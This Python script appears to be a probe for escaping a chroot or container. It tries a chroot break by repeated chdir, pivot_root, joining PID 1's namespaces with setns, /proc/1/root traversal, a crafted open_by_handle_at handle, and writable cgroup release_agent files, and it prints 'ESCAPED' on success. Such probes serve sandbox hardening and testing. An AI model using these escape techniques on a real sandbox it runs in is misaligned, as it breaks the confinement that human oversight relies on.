"""chroot, pivot_root, the namespaces of the first process: the ways out of a root."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
MACHINES = {"x86_64": 155, "aarch64": 41}
PIVOT_ROOT = MACHINES.get(os.uname().machine, 155)
try:
    os.makedirs("inner/old")
    os.chroot("inner")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print("ESCAPED chroot", os.listdir("/"))
except OSError as error:
    print("chroot:", error.strerror)
if libc.syscall(PIVOT_ROOT, b"inner", b"inner/old") == 0:
    print("ESCAPED pivot_root")
for name in ("mnt", "net", "pid", "user", "ipc", "uts", "cgroup"):
    try:
        descriptor = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
    except OSError:
        continue
    if libc.setns(descriptor, 0) == 0:
        print("ESCAPED into the namespace", name)
for path in ("/proc/1/root", "/proc/1/cwd", "/proc/self/root/../../../host", "/proc/1/task/1/root"):
    try:
        if os.stat(path).st_ino != os.stat("/").st_ino:
            print("ESCAPED through", path)
    except OSError:
        continue
handle = ctypes.create_string_buffer(b"\x08\0\0\0\1\0\0\0\2\0\0\0\0\0\0\0", 16)  # inode 2 of any file system
for anchor in ("/", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf"):
    descriptor = os.open(anchor, os.O_RDONLY)
    if libc.open_by_handle_at(descriptor, handle, 0) >= 0:
        print("ESCAPED by the handle of a root folder, from", anchor)
    os.close(descriptor)
try:
    os.listdir("/sys/fs/cgroup")
    for folder, _, files in os.walk("/sys/fs/cgroup"):
        for name in {"release_agent", "cgroup.procs", "notify_on_release"} & set(files):
            if os.access(os.path.join(folder, name), os.W_OK):
                print("ESCAPED may write", os.path.join(folder, name))
except OSError:
    pass
